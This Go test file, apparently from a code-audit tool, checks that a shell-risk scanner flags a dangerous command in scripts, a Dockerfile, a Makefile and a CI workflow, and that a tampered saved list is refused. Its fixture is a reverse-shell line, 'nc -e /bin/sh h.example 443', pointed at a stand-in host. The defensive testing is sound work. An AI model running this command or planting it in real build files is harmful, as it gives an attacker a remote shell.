package worklist

import (
	"bytes"
	"context"
	"errors"
	"iter"
	"os"
	"path/filepath"
	"testing"
	"time"

	"sallyport/codeaudit/change"
	"sallyport/codeaudit/rank"
	"sallyport/codeaudit/script"
)

// source is one commit that adds pieces of scripts.
type source struct {
	dir   string
	texts map[string]string
	err   error
}

func (s source) Path(elem ...string) string { return s.dir }

func (s source) Touches(context.Context) iter.Seq2[change.Touch, error] {
	return func(func(change.Touch, error) bool) {}
}

func (s source) Changes(context.Context) iter.Seq2[change.Change, error] {
	return func(yield func(change.Change, error) bool) {
		c := &change.Commit{Repo: "r", Hash: "c", Message: "Add a step", InScope: true}
		for path, text := range s.texts {
			h := change.Hunk{OldLine: 9, NewLine: 10}
			for _, line := range splitLines(text) {
				h.New = append(h.New, []byte(line))
			}
			if !yield(change.Change{Commit: c, Path: path, Kind: change.Modified, OldMode: change.ModeFile, NewMode: change.ModeFile, Hunks: []change.Hunk{h}}, nil) {
				return
			}
		}
		if s.err != nil {
			yield(change.Change{}, s.err)
		}
	}
}

func splitLines(text string) (lines []string) {
	for start, i := 0, 0; i <= len(text); i++ {
		if i == len(text) || text[i] == '\n' {
			lines = append(lines, text[start:i])
			start = i + 1
		}
	}
	return lines
}

func build(t *testing.T, s source) []rank.Item {
	s.dir = t.TempDir()
	items, _, err := Build(t.Context(), s, Options{Shell: script.Assess, Now: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)})
	if err != nil {
		t.Fatal(err)
	}
	return items
}

func TestShellIsAssessedWhereverItRuns(t *testing.T) {
	const bad = "nc -e /bin/sh h.example 443"
	for path, text := range map[string]string{
		"a.sh": "x=1\n" + bad, "piece.sh": "fi\n" + bad, "Dockerfile": "FROM x\nRUN " + bad, "Makefile": "all:\n\t@" + bad, ".github/workflows/a.yml": "steps:\n      - run: " + bad,
	} {
		var got *rank.Scored
		for _, it := range build(t, source{texts: map[string]string{path: text}}) {
			for i := range it.Signals {
				if it.Signals[i].ID == "shell.critical" {
					got = &it.Signals[i]
				}
			}
		}
		if got == nil || got.Line != 11 || got.Note == "" {
			t.Errorf("%s: %+v", path, got)
		}
	}
	for _, it := range build(t, source{texts: map[string]string{"a.sh": "x=1\necho done\nfi"}}) {
		for _, s := range it.Signals {
			if s.Family() == "shell" {
				t.Errorf("an ordinary piece: %+v", s)
			}
		}
	}
}

func TestABrokenSourceGivesNoList(t *testing.T) {
	want := errors.New("gone")
	if _, _, err := Build(t.Context(), source{dir: t.TempDir(), texts: map[string]string{"a.c": "x"}, err: want}, Options{}); !errors.Is(err, want) {
		t.Fatalf("got %v", err)
	}
}

func TestAListThatWasChangedIsRefused(t *testing.T) {
	dir := t.TempDir()
	items := build(t, source{texts: map[string]string{"a.c": "int a;"}})
	if _, err := Save(dir, items, Summary{Version: summaryVersion}); err != nil {
		t.Fatal(err)
	}
	if got, _, err := Load(dir); err != nil || len(got) != len(items) {
		t.Fatalf("%d items, %v", len(got), err)
	}
	path := filepath.Join(dir, itemsName)
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, bytes.Replace(data, []byte("Add a step"), []byte("Add a stop"), 1), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, _, err := Load(dir); err == nil {
		t.Fatal("a list that is not its summary's was read")
	}
}
